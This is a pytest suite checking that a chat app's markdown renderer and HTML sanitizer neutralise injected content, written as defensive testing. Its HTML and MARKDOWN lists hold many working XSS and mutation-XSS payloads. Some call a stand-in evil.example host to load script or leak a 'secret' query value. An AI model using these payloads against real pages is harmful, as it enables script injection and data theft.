"""What a text must never bring onto a page: each of these was an incident somewhere."""

from __future__ import annotations

import random
import subprocess
import sys

import pytest

from chat.web.markdown import BlockStream, render
from chat.web.markdown.sanitize import COPY_BUTTON, sanitize_html
from tests.web.markdown.samples import SAMPLES
from tests.web.markup import Elements, check_harmless

HTML = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/?q=secret>",
    "<svg onload=alert(1)><use href=data:x></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='https://a' onclick=alert(1) style='position:fixed' id=title class=primary hx-get=/x data-hx-get=/x>x</a>",
    "<div hx-get=/threads/ hx-trigger=load>x</div>",
    "<div data-hx-post=/x data-copy=/x data-live=1>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<p class='primary danger code' id=messages>x</p>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content=0><base href=//evil.example>",
    "<form action=https://evil.example><input name=a type=password onfocus=alert(1)><button>x</button></form>",
    "<button type=button class=copy>Copy</button><button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)><input checked name=csrf>",
    "<textarea autofocus onfocus=alert(1)></textarea><select></select>",
    "<video src=https://evil.example poster=x></video><audio src=x onerror=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td><a href='https://a'><table><a href=javascript:alert(1)>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]><?php ?>",
    "<template><script>alert(1)</script></template><slot></slot>",
    "<x-custom onclick=alert(1)>x</x-custom><details open ontoggle=alert(1)>",
    "<plaintext><xmp><noembed><noframes>",
    "<p title=`<img src=x onerror=alert(1)>`>&lt;script&gt;alert(1)&lt;/script&gt;",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:x) [x](about:blank)",
    "[x](smb://evil.example/share) [x](ms-msdt:/id) <smb://evil.example> [x](tel:1)",
    "[x](//evil.example) [x](/sign-out/) [x](?a=b) [x](\\\\evil.example) [x](https:evil)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret) ![x](javascript:alert(1)) ![x](//evil.example/a.png)",
    '![x](https://evil.example "onerror=alert(1)") [x](https://a "\\" onmouseover=alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](https://a\"onclick=alert(1)) [x](https://a'><script>)",
    'https://a"onclick=alert(1) https://a<script>alert(1)</script>',
    "```<script>\nalert(1)\n```",
    '```"onclick=alert(1)\nx\n```',
    "```html\n<script>alert(1)</script></code></pre><script>alert(2)</script>\n```",
    "`<script>alert(1)</script>`",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{&#x3c;script&#x3e;}$ $\\unicode{x3c}script\\unicode{x3e}$",
    "$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\class{primary}{x}$",
    '$\\color{red;background:url(https://evil.example)}x$ $\\textcolor{"onclick=1}{x}$',
    "$\\rule{9999em}{9999em}$ $\\hspace{-99em}x$ $\\raise{50em}{x}$",
    "$<script>alert(1)</script>$ $$</math><script>alert(1)</script>$$",
    "$\\frac{<svg onload=alert(1)>$",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>\n\n> <iframe>\n\n- [ ] <input onfocus=alert(1)>",
    "<br onclick=alert(1)> <br/onclick=alert(1)>",
    '<span class="copy"></span> <div class="code"><div class="code-head"></div></div>',
]


class TestText:
    @pytest.mark.parametrize("source", [*HTML, *MARKDOWN, *SAMPLES])
    def test_brings_nothing_active(self, source: str) -> None:
        check_harmless(render(source))

    @pytest.mark.parametrize("source", HTML)
    def test_shows_html_as_it_was_written(self, source: str) -> None:
        html = render(f"```\n{source}\n```")
        assert source in Elements(html).words

    def test_brings_nothing_active_in_any_mixture(self) -> None:
        chance = random.Random(2602)
        known = [
            *HTML,
            *MARKDOWN,
            "\n\n",
            "\n",
            "> ",
            "- ",
            "```\n",
            "`",
            "$",
            "$$\n",
            "**",
            "[",
            "](",
            ")",
            "|",
            "<",
            ">",
            '"',
            "&",
        ]
        for _ in range(300):
            source = "".join(chance.choices(known, k=chance.randint(2, 12)))
            check_harmless(render(source))

    def test_brings_nothing_active_in_pieces(self) -> None:
        stream = BlockStream()
        for source in (*HTML, *MARKDOWN):
            for character in source + "\n\n":
                stream.feed(character)
        stream.finish()
        for block in stream.blocks:
            check_harmless(block)


class TestSanitizer:
    """The second net: even HTML that slipped through the renderer."""

    @pytest.mark.parametrize("html", HTML)
    def test_lets_nothing_active_through(self, html: str) -> None:
        once = sanitize_html(html)
        for tag, attributes in Elements(once).all + Elements(sanitize_html(once)).all:
            assert tag != "button"
            assert tag not in {"script", "style", "img", "svg", "iframe", "form", "mglyph", "annotation-xml"}
            for name in attributes:
                assert not name.startswith(("on", "hx-", "data-", "xlink"))
                assert name not in {"style", "id", "src", "name", "formaction"}
            assert "javascript" not in (attributes.get("href") or "")
            assert "primary" not in (attributes.get("class") or "")

    @pytest.mark.parametrize(
        "html",
        [COPY_BUTTON, '<span class="copy"></span>', '<span class="copy-0123456789abcdef0123456789abcdef"></span>'],
    )
    def test_takes_no_button_from_others(self, html: str) -> None:
        assert "button" not in sanitize_html(html)
        assert "copy" not in sanitize_html(html)

    def test_keeps_what_the_renderer_makes(self) -> None:
        html = '<p><br><span class="k">b</span></p><table><tbody><tr><td class="right">a</td></tr></tbody></table>'
        assert sanitize_html(html) == html


class TestRenderer:
    def test_needs_no_django_settings(self) -> None:
        code = "from chat.web.markdown import render; print(render('*a*'), end='')"
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env={})
        assert done.stdout == "<p><em>a</em></p>\n"
